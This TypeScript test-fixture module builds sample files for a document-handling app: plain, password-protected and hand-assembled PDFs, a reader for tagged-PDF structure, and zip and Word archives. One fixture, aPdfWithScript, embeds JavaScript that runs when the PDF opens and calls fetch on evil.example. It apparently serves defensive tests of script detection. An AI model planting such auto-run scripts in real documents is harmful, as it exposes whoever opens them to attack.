import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import PDFDocument from 'pdfkit'
import { FACES, startSheet } from './pdf.ts'

/** Content of the store below this folder. End-to-end tests, which use these fixtures too, have no store. */
export async function storedBelow(folder: string) {
  const { listFiles } = await import('./storage.ts')
  const all: { name: string; writtenAt: () => Promise<Date> }[] = []
  for await (const each of listFiles(folder)) all.push(each)
  return all.sort((one, other) => one.name.localeCompare(other.name))
}

/** A PDF with these pages of text. */
export async function aPdf(...pages: string[]): Promise<Buffer> {
  const { page: sheet, ended } = startSheet({ title: 'Un essai', author: 'Essai', creator: 'Essai' })
  sheet.font(FACES.text).fontSize(12)
  for (const [at, text] of pages.entries()) {
    if (at > 0) sheet.addPage()
    sheet.text(text)
  }
  sheet.end()
  return await ended
}

type Node = { role?: string; alt?: string; type?: string; id?: string; children?: Node[] }

/** An element: its type, then its text and child elements. */
type Outline = (string | Outline)[]

/** Structure elements with their text, in reading order. */
function outlineOf(node: Node, words: Map<string, string>): Outline {
  return (node.children ?? []).map((child) =>
    child.type === 'content' ? (words.get(child.id ?? '') ?? '').trim() : elementOf(child, words),
  )
}

const elementOf = (node: Node, words: Map<string, string>): string | Outline =>
  node.alt === undefined ? [node.role ?? '', ...outlineOf(node, words)] : `${node.role}: ${node.alt}`

/** What a page of a tagged PDF says to a screen reader, and text outside every element and decoration (`loose`). */
export async function readStructure(pdf: Buffer, number = 1) {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs')
  const loading = getDocument({ data: new Uint8Array(pdf), verbosity: 0 })
  const document = await loading.promise
  const page = await document.getPage(number)
  const { items } = await page.getTextContent({ includeMarkedContent: true })
  const words = new Map<string, string>()
  let [open, loose] = [undefined as string | undefined, '']
  for (const item of items)
    if ('str' in item) {
      if (open === undefined) loose += item.str.trim()
      else words.set(open, (words.get(open) ?? '') + item.str)
    } else open = item.type === 'endMarkedContent' ? undefined : (item.id ?? 'decoration')
  const { info } = await document.getMetadata()
  const marks = (await document.getMarkInfo()) as unknown as Map<string, boolean> | null
  const [root = []] = outlineOf((await page.getStructTree()) as Node, words) as Outline[]
  await loading.destroy()
  return { info: info as Record<string, unknown>, isTagged: marks?.get('Marked'), root, loose }
}

/** A PDF that needs a password. */
export async function aLockedPdf(): Promise<Buffer> {
  const sheet = new PDFDocument({ userPassword: 'sainte-barbe' })
  sheet.text('Bonjour')
  sheet.end()
  return Buffer.concat(await sheet.toArray())
}

type Parts = Record<string, string>

/** A one-page PDF that draws `content`, with additions to its catalogue. */
export function aRawPdf(content: Buffer, catalogue = '', objects: readonly string[] = []): Buffer {
  const packed = deflateSync(content)
  const stream = Buffer.concat([
    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R
      /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
    stream,
    ...objects,
  ]
  const written: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places = bodies.map((body, at) => {
    const place = written.reduce((sum, { length }) => sum + length, 0)
    written.push(Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n'))
    return place
  })
  const end = written.reduce((sum, { length }) => sum + length, 0)
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = places.length + 1
  written.push(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}`))
  written.push(Buffer.from(`trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${end}\n%%EOF\n`))
  return Buffer.concat(written)
}

/** A PDF with a script that runs on opening. */
export const aPdfWithScript = () =>
  aRawPdf(Buffer.from('BT /F 12 Tf 20 200 Td (Bonjour) Tj ET'), '/OpenAction 5 0 R', [
    `<< /S /JavaScript /JS (app.alert\\("script"\\); fetch\\("https://evil.example"\\)) >>`,
  ])

/** A zip of these files. */
export const anArchive = (parts: Parts): Buffer =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))

/** A Word document, with additional parts. */
export const aDocx = (more: Parts = {}): Buffer =>
  anArchive({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more })
